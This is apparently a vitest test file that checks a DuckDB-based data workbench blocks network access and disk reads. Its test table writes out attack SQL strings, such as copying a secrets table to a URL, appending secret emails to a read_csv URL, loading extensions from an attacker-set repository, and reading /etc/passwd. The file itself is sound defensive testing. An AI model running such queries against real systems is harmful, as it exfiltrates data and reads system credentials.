import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DataEngine } from '$workers/data';
import { load, newEngine } from './engine-fixture';
import { startCountingServer, type CountingServer } from '../../../shared/counting-server';

let engine: DataEngine;
let other: CountingServer;

beforeAll(async () => {
	other = await startCountingServer();
	({ engine } = await newEngine());
	await load(engine, 'secrets.csv', 'email,mrr\nann@example.com,10\nbob@example.com,20\n', 'secrets');
});
afterAll(() => other.close());

const NEVER = /never reads or writes other hosts/;

describe('DuckDB locked to the tab (Node build, as in the CLI)', () => {
	const attacks: [string, (o: string) => string, RegExp][] = [
		['a URL in FROM', (o) => `SELECT * FROM '${o}/x.csv'`, NEVER],
		['read_csv of a URL carrying the data', (o) => `SELECT * FROM read_csv('${o}/x.csv?d=' || (SELECT string_agg(email, ';') FROM secrets))`, NEVER],
		['a URL built by concatenation', (o) => `SELECT * FROM read_csv('ht' || 'tp://${o.slice(7)}/x.csv')`, NEVER],
		['COPY to a URL', (o) => `COPY (SELECT * FROM secrets) TO '${o}/out.csv'`, NEVER],
		['COPY to a URL built by concatenation', (o) => `COPY (SELECT * FROM secrets) TO 'ht' || 'tp://${o.slice(7)}/out.csv'`, /./],
		['ATTACH a URL', (o) => `ATTACH '${o}/x.db'`, /ATTACH is not available/],
		['ATTACH after another statement', (o) => `SELECT 1; ATTACH '${o}/x.db' AS remote`, /ATTACH is not available/],
		[
			'an extension repository then autoloading',
			(o) => `SET autoinstall_known_extensions=true; SET autoload_known_extensions=true; SET custom_extension_repository='${o}'; SELECT * FROM read_json_auto('x.json')`,
			/is fixed here/
		],
		['read_json_auto with autoload off', () => `SELECT * FROM read_json_auto('x.json')`, /json extension, which this workbench does not load/],
		['INSTALL', (o) => `INSTALL httpfs FROM '${o}'`, /INSTALL is not available/],
		['LOAD of an extension file', (o) => `LOAD '${o}/x.duckdb_extension'`, /LOAD is not available/],
		['enable_external_access back on', () => `SET enable_external_access=true`, /"enable_external_access" is fixed here/],
		['RESET of the lock', () => `RESET lock_configuration`, /is fixed here/],
		['a local file of the machine', () => `SELECT * FROM read_csv('/etc/passwd')`, /reads only the files you load/],
		['glob of the disk', () => `SELECT * FROM glob('/*')`, /reads only the files you load/]
	];

	it.each(attacks)('runSql(%s) is refused with a message and nothing reaches the other host', async (_name, sql, message) => {
		await expect(engine.runSql(sql(other.origin), 'attack')).rejects.toThrow(message);
		expect(other.hits).toEqual([]);
	});

	it('the settings stay locked after the attacks', async () => {
		const result = await engine.runSql(
			"SELECT current_setting('enable_external_access') AS external, current_setting('autoload_known_extensions') AS autoload, current_setting('lock_configuration') AS locked",
			'settings'
		);
		expect(result.viewName).toBe('settings');
		expect((await engine.page('settings', 0, 1)).rows).toEqual([[false, false, true]]);
	});

	it('a plain URL value in a query is still just text', async () => {
		const result = await engine.runSql(`SELECT email, '${other.origin}/unsubscribe' AS link FROM secrets WHERE link LIKE 'http%'`, 'links');
		expect(result.info?.rowCount).toBe(2);
		expect(other.hits).toEqual([]);
	});

	it('loaded files still read and export after the lockdown', async () => {
		await load(engine, 'more.csv', 'id,v\n1,2\n', 'more');
		expect((await engine.describe('more')).rowCount).toBe(1);
		expect(new TextDecoder().decode(await engine.exportCsv('more'))).toBe('id,v\n1,2\n');
	});
});
